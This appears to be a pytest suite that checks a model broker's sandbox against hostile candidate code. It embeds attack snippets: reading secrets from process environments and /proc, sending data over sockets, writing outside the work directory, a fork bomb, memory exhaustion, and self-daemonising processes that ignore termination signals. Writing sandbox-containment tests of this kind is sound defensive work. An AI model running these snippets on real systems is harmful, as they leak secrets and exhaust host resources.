"""Hostile candidate code, end to end through the broker: each attack is contained and the broker keeps serving.

A stand-in model provider answers every task with the task's own message (a fenced python block),
so a task carries its attacking code; the `python-tests` verifier imports it as `solution` and runs
the customer's test, which passes only if the attack worked. Each test checks from the host that
the attack changed nothing, that its attempts were rejected with a reason, and that an honest task
submitted next is solved.
"""

from __future__ import annotations

import os
import secrets
import shutil
import socket
import tempfile
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import httpx
import pytest
from fastapi import FastAPI, Request

from broker_setup import PROVIDERS, synthetic_market, synthetic_plan, wait_final
from modelarb.service import reports
from modelarb.service.api.app import create_app
from modelarb.service.broker import Broker, BrokerSettings
from modelarb.service.keys import create_key
from modelarb.service.replay.market import replay_providers_toml
from modelarb.service.settings import load_providers
from modelarb.service.store.engine import Store
from modelarb.service.verifiers import sandbox_kind
from servers import serve_in_thread

pytestmark = pytest.mark.skipif(
    sandbox_kind() != "bwrap", reason="bubblewrap (bwrap) is not installed: the rlimits fallback contains less"
)

SECRET_ENV = "MODELARB_TEST_BROKER_SECRET"
TIMEOUT_S = 3
ATTACK_TIMEOUT_S = 10  # the other attacks' own: long enough that a loaded machine does not cut them short
MAX_PROCESSES = 64  # VerifierContext.max_processes: the broker does not change it
TEST_ATTACK = "from solution import attack\n\n\ndef test_attack():\n    assert attack()\n"
CONTAINED = ("the tests did not pass", "timed out after")
HONEST_CODE = "def add(a, b):\n    return a + b\n"
HONEST_TESTS = "from solution import add\n\n\ndef test_add():\n    assert add(2, 3) == 5\n"


def echo_provider() -> FastAPI:
    """An OpenAI-compatible stand-in for both models: it answers with the last message, using all its max_tokens."""
    app = FastAPI()

    @app.post("/v1/chat/completions")
    async def complete(request: Request) -> dict[str, Any]:
        body = await request.json()
        completion = int(body["max_tokens"])
        return {
            "id": "chatcmpl-echo",
            "object": "chat.completion",
            "created": 0,
            "model": body["model"],
            "choices": [
                {
                    "index": 0,
                    "message": {"role": "assistant", "content": body["messages"][-1]["content"]},
                    "finish_reason": "stop",
                }
            ],
            "usage": {"prompt_tokens": 1, "completion_tokens": completion, "total_tokens": 1 + completion},
        }

    return app


@dataclass
class Sandboxed:
    """A broker whose verifier runs have short limits, its stand-in provider, and a customer's client."""

    url: str
    store: Store
    database: Path
    secret: str
    client: httpx.Client
    stops: list[Callable[[], None]] = field(default_factory=list)


@pytest.fixture(scope="module")
def broker() -> Iterator[Sandboxed]:
    """The broker runs in this process, with a secret in its environment and its database world-readable."""
    secret = f"sk-broker-secret-{secrets.token_hex(8)}"
    os.environ[SECRET_ENV] = secret
    folder = Path(tempfile.mkdtemp(prefix="modelarb-broker-"))
    folder.chmod(0o755)  # only the sandbox, not file permissions, keeps candidates out
    database = folder / "broker.sqlite3"
    outcomes = synthetic_market()
    plan = synthetic_plan(outcomes)
    provider_url, stop_provider = serve_in_thread(echo_provider())
    store = Store.open(f"sqlite:///{database}")
    try:
        providers = folder / "providers.toml"
        providers.write_text(replay_providers_toml(None, provider_url, PROVIDERS, 100_000))
        settings = BrokerSettings(
            workers=2,
            poll_s=0.05,
            verifier_timeout_s=TIMEOUT_S,
            verifier_memory_mb=256,
            task_hard_limit=0.01,  # one or two attempts a task: each uses all the tokens its budget allows
        )
        broker = Broker(store, plan, load_providers(providers), settings)
        database.chmod(0o644)
        url, stop_broker = serve_in_thread(create_app(broker))
        key = create_key(store, "mallory")
        client = httpx.Client(base_url=url, headers={"Authorization": f"Bearer {key}"}, timeout=30)
        yield Sandboxed(url, store, database, secret, client)
        client.close()
        stop_broker()
    finally:
        store.close()
        stop_provider()
        os.environ.pop(SECRET_ENV, None)
        shutil.rmtree(folder, ignore_errors=True)


def run_task(broker: Sandboxed, code: str, tests: str, timeout_s: float | None = None) -> dict[str, Any]:
    """Submit a task whose reply will be `code` (fenced), verified by `tests`; returns it once final.

    `timeout_s` overrides the broker's verifier timeout for this task.
    """
    verifier: dict[str, Any] = {"kind": "python-tests", "tests": tests}
    if timeout_s is not None:
        verifier["timeout_s"] = timeout_s
    body = {
        "messages": [{"role": "user", "content": f"```python\n{code}```\n"}],
        "verifier": verifier,
        "max_price": 5,
    }
    answer = broker.client.post("/v1/tasks", json=body)
    assert answer.status_code == 202, answer.text
    task_id = answer.json()["id"]
    return wait_final(broker.client, [task_id], timeout_s=60)[task_id]


def assert_rejected(task: dict[str, Any], *reasons: str) -> None:
    """The task ended unsolved: it had attempts, each answered and rejected with a verdict giving one of `reasons`.

    A run that fails and one that is killed at the timeout (a loaded machine can make either happen) are both
    contained; `reasons` defaults to either.
    """
    reasons = reasons or CONTAINED
    assert task["state"] == "unsolved", task
    assert task["solution"] is None and task["attempts"]
    for attempt in task["attempts"]:
        assert attempt["state"] == "rejected" and attempt["verified"] is False, attempt
        assert attempt["verdict"] and any(reason in attempt["verdict"] for reason in reasons), attempt["verdict"]


def assert_still_serving(broker: Sandboxed) -> None:
    """An honest task submitted after the attack is solved, and the books balance."""
    honest = run_task(broker, HONEST_CODE, HONEST_TESTS, timeout_s=30)  # a loaded machine does not fail it
    assert honest["state"] == "solved", honest
    assert reports.check(broker.store) == []


def processes_with(token: str) -> list[int]:
    """Host processes whose command line contains `token`."""
    found = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                if token.encode() in (entry / "cmdline").read_bytes():
                    found.append(int(entry.name))
            except OSError:
                continue
    return found


@contextmanager
def watching(token: str) -> Iterator[list[int]]:
    """While the block runs, count host processes carrying `token` every few milliseconds (the counts seen)."""
    counts: list[int] = []
    stop = threading.Event()

    def watch() -> None:
        while not stop.is_set():
            counts.append(len(processes_with(token)))
            time.sleep(0.01)

    thread = threading.Thread(target=watch, daemon=True)
    thread.start()
    try:
        yield counts
    finally:
        stop.set()
        thread.join(5)


@dataclass
class Listener:
    """A TCP server on 127.0.0.1 that records every connection and every byte it receives."""

    port: int
    received: list[bytes]


@pytest.fixture
def listener() -> Iterator[Listener]:
    server = socket.create_server(("127.0.0.1", 0))
    server.settimeout(0.1)
    stop = threading.Event()
    received: list[bytes] = []

    def accept() -> None:
        while not stop.is_set():
            try:
                connection, _peer = server.accept()
            except TimeoutError:
                continue
            with connection:
                connection.settimeout(1)
                try:
                    received.append(b"connected:" + connection.recv(1024))
                except OSError:
                    received.append(b"connected:")

    thread = threading.Thread(target=accept, daemon=True)
    thread.start()
    try:
        yield Listener(server.getsockname()[1], received)
    finally:
        stop.set()
        thread.join(2)
        server.close()


def test_no_network_connection_gets_out(broker: Sandboxed, listener: Listener) -> None:
    broker_port = int(broker.url.rsplit(":", 1)[1])
    code = f"""import socket


def attack():
    reached = []
    for port in ({listener.port}, {broker_port}):
        try:
            with socket.create_connection(("127.0.0.1", port), timeout=1) as connection:
                connection.sendall(b"stolen")
                reached.append(port)
        except OSError:
            pass
    return bool(reached)
"""
    task = run_task(broker, code, TEST_ATTACK, ATTACK_TIMEOUT_S)
    assert_rejected(task)
    with socket.create_connection(("127.0.0.1", listener.port), timeout=2):
        pass  # the listener does accept connections from outside the sandbox
    deadline = time.monotonic() + 2
    while not listener.received and time.monotonic() < deadline:
        time.sleep(0.02)
    assert listener.received == [b"connected:"]  # only the host's own probe
    assert_still_serving(broker)


def test_writes_outside_the_temporary_directory_do_not_land(broker: Sandboxed) -> None:
    outside = Path(tempfile.mkdtemp(prefix="modelarb-outside-"))
    outside.chmod(0o777)  # writable by anyone: only the sandbox stands in the way
    targets = [outside / "escaped.txt", broker.database.parent / "escaped.txt"]
    code = f"""import os


def attack():
    written = 0
    for path in {[str(t) for t in targets]!r} + [os.path.join(os.getcwd(), "..", "escaped.txt")]:
        try:
            with open(path, "w") as handle:
                handle.write("escaped")
            written += 1
        except OSError:
            pass
    return written == 3
"""
    try:
        task = run_task(broker, code, TEST_ATTACK, ATTACK_TIMEOUT_S)
        assert_rejected(task)
        assert [t for t in targets if t.exists()] == []
        assert not (Path(tempfile.gettempdir()) / "escaped.txt").exists()  # the work directory's parent is /tmp
    finally:
        for target in targets:
            target.unlink(missing_ok=True)
        outside.rmdir()
    assert_still_serving(broker)


def test_the_brokers_environment_is_not_visible(broker: Sandboxed) -> None:
    assert os.environ[SECRET_ENV] == broker.secret  # the broker's process has it
    code = f"""import os


def attack():
    if {SECRET_ENV!r} in os.environ or {broker.secret!r} in repr(dict(os.environ)):
        return True
    for entry in os.listdir("/proc"):
        try:
            with open(os.path.join("/proc", entry, "environ"), "rb") as handle:
                if {broker.secret!r}.encode() in handle.read():
                    return True
        except OSError:
            pass
    return False
"""
    task = run_task(broker, code, TEST_ATTACK, ATTACK_TIMEOUT_S)
    assert_rejected(task)
    assert_still_serving(broker)


def test_the_brokers_database_cannot_be_read(broker: Sandboxed) -> None:
    assert broker.database.read_bytes()[:16] == b"SQLite format 3\x00"
    code = f"""import os


def attack():
    try:
        with open({str(broker.database)!r}, "rb") as handle:
            return handle.read(16) == b"SQLite format 3\\x00"
    except OSError:
        return bool(os.path.exists({str(broker.database.parent)!r}))
"""
    task = run_task(broker, code, TEST_ATTACK, ATTACK_TIMEOUT_S)
    assert_rejected(task)
    assert_still_serving(broker)


def test_a_fork_bomb_is_bounded_and_leaves_nothing_behind(broker: Sandboxed) -> None:
    token = f"modelarb-forkbomb-{secrets.token_hex(6)}"
    code = f"""import os


def attack():
    for _ in range(10_000):
        try:
            pid = os.fork()
        except OSError:
            return False
        if pid == 0:
            os.execv("/bin/sh", ["sh", "-c", "sleep 30; exit 0", {token!r}])
    return True
"""
    started = time.monotonic()
    with watching(token) as counts:
        task = run_task(broker, code, TEST_ATTACK, ATTACK_TIMEOUT_S)
    assert_rejected(task)
    assert time.monotonic() - started < 30  # the sleeping children were killed, not waited for
    assert 0 < max(counts) <= MAX_PROCESSES  # the bomb went off, within the process limit
    assert processes_with(token) == []
    assert_still_serving(broker)


def test_unbounded_allocation_is_stopped(broker: Sandboxed) -> None:
    code = """def attack():
    blocks = []
    while len(blocks) < 128:  # 8 GiB
        blocks.append(bytearray(64 * 1024 * 1024))
    return True
"""
    task = run_task(broker, code, TEST_ATTACK, ATTACK_TIMEOUT_S)
    assert_rejected(task)
    assert_still_serving(broker)


def test_a_candidate_that_sleeps_forever_is_killed_at_the_timeout(broker: Sandboxed) -> None:
    code = "import time\n\n\ndef attack():\n    time.sleep(10**6)\n    return True\n"
    started = time.monotonic()
    task = run_task(broker, code, TEST_ATTACK)  # the broker's verifier_timeout_s
    assert_rejected(task, f"timed out after {TIMEOUT_S} s")
    assert time.monotonic() - started < len(task["attempts"]) * (TIMEOUT_S + 5)
    assert_still_serving(broker)


def test_a_process_that_tries_to_outlive_the_run_does_not(broker: Sandboxed) -> None:
    token = f"modelarb-escapee-{secrets.token_hex(6)}"
    code = f"""import os
import subprocess
import sys
import time

ESCAPEE = (
    "import signal, time; "
    "signal.signal(signal.SIGTERM, signal.SIG_IGN); signal.signal(signal.SIGHUP, signal.SIG_IGN); time.sleep(120)"
)


def attack():
    subprocess.Popen(
        [sys.executable, "-c", ESCAPEE, {token!r}],
        start_new_session=True,
        stdin=subprocess.DEVNULL,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    pid = os.fork()
    if pid == 0:  # a daemon: fork again in a new session, and let the middle process exit
        os.setsid()
        if os.fork() == 0:
            os.execv(sys.executable, [sys.executable, "-c", ESCAPEE, {token!r}])
        os._exit(0)
    os.waitpid(pid, 0)
    time.sleep(0.5)  # long enough for the host to see the escapees
    return False  # the attack is what is left behind, not the verdict
"""
    with watching(token) as counts:
        task = run_task(broker, code, TEST_ATTACK, ATTACK_TIMEOUT_S)
    assert_rejected(task)
    assert max(counts) >= 1  # the escapees did run (the host sees into the sandbox's PID namespace)
    deadline = time.monotonic() + 2
    while processes_with(token) and time.monotonic() < deadline:
        time.sleep(0.05)
    assert processes_with(token) == []
    assert_still_serving(broker)
